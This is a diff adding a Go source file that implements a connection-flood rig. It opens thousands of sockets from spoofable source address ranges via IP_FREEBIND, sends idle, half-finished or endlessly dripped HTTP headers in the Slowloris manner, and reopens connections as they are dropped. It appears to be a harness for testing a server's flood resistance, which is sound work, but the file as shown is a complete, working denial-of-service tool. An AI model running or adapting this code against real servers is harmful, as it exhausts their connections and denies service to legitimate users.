@@ -1,0 +1,269 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package flood
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"net/netip"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// Hostile is one process of a flood: it opens Connections at once, opens each
+// anew when it is thrown out, and none of them ever sends a whole head.
+type Hostile struct {
+	Begin       time.Time // so that several processes are one flood
+	Sources     []Range   // taken in turn
+	Server4     netip.AddrPort
+	Server6     netip.AddrPort
+	Connections int
+	PerSecond   int // opened at most, after the first of each
+}
+
+// HostileReport is what a process did.
+type HostileReport struct {
+	Opened, Established int
+	Refused             int // before they were established
+	Thrown              int // reset afterwards
+	Answered            int // ended by the other side in order
+	Peak                int // open at once, those included that the kernel still tries to establish
+}
+
+// manner is what a connection does once it is established.
+type manner int
+
+const (
+	idle     manner = iota // sends nothing
+	half                   // sends half a head
+	dripping               // sends an endless head byte by byte
+	manners
+)
+
+const (
+	// turn is how often what is due is done.
+	turn = 10 * time.Millisecond
+	// dripEvery is the pause between two bytes of a slow head.
+	dripEvery = time.Second
+	// batch is how many events are taken at once.
+	batch = 1024
+)
+
+// socket is one of the connections that are kept open.
+type socket struct {
+	fd          int // -1 while it is closed
+	established bool
+}
+
+// rig is a Hostile at work. It goes by system calls and one thread: tens of
+// thousands of goroutines would take the machine from the service.
+type rig struct {
+	Hostile
+	report  HostileReport
+	epoll   int
+	sockets []socket
+	closed  []int // to be opened again
+	open    int
+	dripped int // where the last turn's dripping ended
+	sources int
+}
+
+func (h Hostile) run(ctx context.Context) (HostileReport, error) {
+	epoll, err := unix.EpollCreate1(unix.EPOLL_CLOEXEC)
+	if err != nil {
+		return HostileReport{}, fmt.Errorf("make an epoll descriptor: %w", err)
+	}
+	r := &rig{Hostile: h, epoll: epoll, sockets: make([]socket, h.Connections)}
+	for i := range r.sockets {
+		r.sockets[i].fd = -1
+		r.closed = append(r.closed, i)
+	}
+	for _, s := range h.Sources {
+		r.sources += s.Count
+	}
+	defer r.end()
+	if err := r.burst(ctx); err != nil {
+		return r.report, err
+	}
+	due, last := 0.0, time.Now()
+	for ctx.Err() == nil {
+		now := time.Now()
+		due = min(due+now.Sub(last).Seconds()*float64(h.PerSecond), float64(h.PerSecond))
+		last = now
+		for ; due >= 1 && len(r.closed) > 0; due-- {
+			if err := r.connect(); err != nil {
+				return r.report, err
+			}
+		}
+		r.drip()
+		if err := r.poll(); err != nil {
+			return r.report, err
+		}
+	}
+	return r.report, nil
+}
+
+// burst opens all connections, and looks at none of them before the last one is
+// on its way.
+func (r *rig) burst(ctx context.Context) error {
+	begin := time.NewTimer(time.Until(r.Begin))
+	defer begin.Stop()
+	select {
+	case <-begin.C:
+	case <-ctx.Done():
+		return nil
+	}
+	for range r.Connections {
+		if err := r.connect(); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// end resets all, so that nothing of the flood is left in the kernel.
+func (r *rig) end() {
+	for i := range r.sockets {
+		r.close(i)
+	}
+	_ = unix.Close(r.epoll)
+}
+
+// source is the address that a socket comes from.
+func (r *rig) source(i int) netip.Addr {
+	i %= r.sources
+	for _, s := range r.Sources {
+		if i < s.Count {
+			return s.at(i)
+		}
+		i -= s.Count
+	}
+	return netip.Addr{}
+}
+
+// connect opens the socket that has been closed for longest.
+func (r *rig) connect() error {
+	i := r.closed[0]
+	r.closed = r.closed[1:]
+	from := r.source(i)
+	family, server := unix.AF_INET, r.Server4
+	if !from.Is4() {
+		family, server = unix.AF_INET6, r.Server6
+	}
+	fd, err := unix.Socket(family, unix.SOCK_STREAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
+	if err != nil {
+		return fmt.Errorf("make a socket: %w", err)
+	}
+	r.sockets[i] = socket{fd: fd}
+	r.open++
+	r.report.Opened++
+	r.report.Peak = max(r.report.Peak, r.open)
+	// The port is chosen when the other end is known: there are not enough of
+	// them otherwise (ip(7), IP_BIND_ADDRESS_NO_PORT).
+	// Unlike an IPv4 one, an address that a route alone makes local cannot be
+	// bound otherwise (net/ipv6/af_inet6.c, __inet6_bind).
+	err = errors.Join(
+		unix.SetsockoptInt(fd, unix.SOL_IP, unix.IP_FREEBIND, 1),
+		unix.SetsockoptInt(fd, unix.SOL_IP, unix.IP_BIND_ADDRESS_NO_PORT, 1),
+		unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1}),
+		unix.Bind(fd, sockaddr(netip.AddrPortFrom(from, 0))),
+		unix.EpollCtl(r.epoll, unix.EPOLL_CTL_ADD, fd, &unix.EpollEvent{
+			Events: unix.EPOLLOUT | unix.EPOLLIN | unix.EPOLLRDHUP | unix.EPOLLET, Fd: int32(i), //nolint:gosec // an index
+		}),
+	)
+	if err != nil {
+		return fmt.Errorf("prepare a socket of %s: %w", from, err)
+	}
+	if err := unix.Connect(fd, sockaddr(server)); err != nil && !errors.Is(err, unix.EINPROGRESS) {
+		r.report.Refused++
+		r.reopen(i)
+	}
+	return nil
+}
+
+func sockaddr(a netip.AddrPort) unix.Sockaddr {
+	if a.Addr().Is4() {
+		return &unix.SockaddrInet4{Port: int(a.Port()), Addr: a.Addr().As4()}
+	}
+	return &unix.SockaddrInet6{Port: int(a.Port()), Addr: a.Addr().As16()}
+}
+
+func (r *rig) close(i int) {
+	if r.sockets[i].fd >= 0 {
+		_ = unix.Close(r.sockets[i].fd)
+		r.sockets[i].fd = -1
+		r.open--
+	}
+}
+
+func (r *rig) reopen(i int) {
+	r.close(i)
+	r.closed = append(r.closed, i)
+}
+
+func (r *rig) poll() error {
+	var events [batch]unix.EpollEvent
+	n, err := unix.EpollWait(r.epoll, events[:], int(turn.Milliseconds()))
+	if err != nil && !errors.Is(err, unix.EINTR) {
+		return fmt.Errorf("wait for events: %w", err)
+	}
+	for _, e := range events[:max(n, 0)] {
+		r.handle(int(e.Fd), e.Events)
+	}
+	return nil
+}
+
+func (r *rig) handle(i int, events uint32) {
+	s := &r.sockets[i]
+	switch {
+	case s.fd < 0:
+	case events&(unix.EPOLLERR|unix.EPOLLHUP) != 0:
+		r.thrown(s)
+		r.reopen(i)
+	case events&(unix.EPOLLRDHUP|unix.EPOLLIN) != 0:
+		r.report.Answered++
+		r.reopen(i)
+	case !s.established:
+		s.established = true
+		r.report.Established++
+		r.begin(i)
+	}
+}
+
+// thrown counts a connection that the other side or the kernel has given up. It
+// may have been established in the meantime.
+func (r *rig) thrown(s *socket) {
+	if !s.established {
+		why, err := unix.GetsockoptInt(s.fd, unix.SOL_SOCKET, unix.SO_ERROR)
+		if err != nil || unix.Errno(why) != unix.ECONNRESET {
+			r.report.Refused++
+			return
+		}
+		r.report.Established++
+	}
+	r.report.Thrown++
+}
+
+func (r *rig) begin(i int) {
+	text := map[manner]string{
+		half:     "GET /.well-known/acme-challenge/half-a-head HTTP/1.1\r\nHo",
+		dripping: "GET / HTTP/1.1\r\nX: ",
+	}[manner(i)%manners]
+	if text != "" {
+		_, _ = unix.Write(r.sockets[i].fd, []byte(text))
+	}
+}
+
+// drip goes through a share of the sockets, so that each slow head gets a byte a
+// second.
+func (r *rig) drip() {
+	share := len(r.sockets)*int(turn)/int(dripEvery) + 1
+	for range share {
+		r.dripped = (r.dripped + 1) % len(r.sockets)
+		if s := r.sockets[r.dripped]; s.established && s.fd >= 0 && manner(r.dripped)%manners == dripping {
+			_, _ = unix.Write(s.fd, []byte("x"))
+		}
+	}
+}
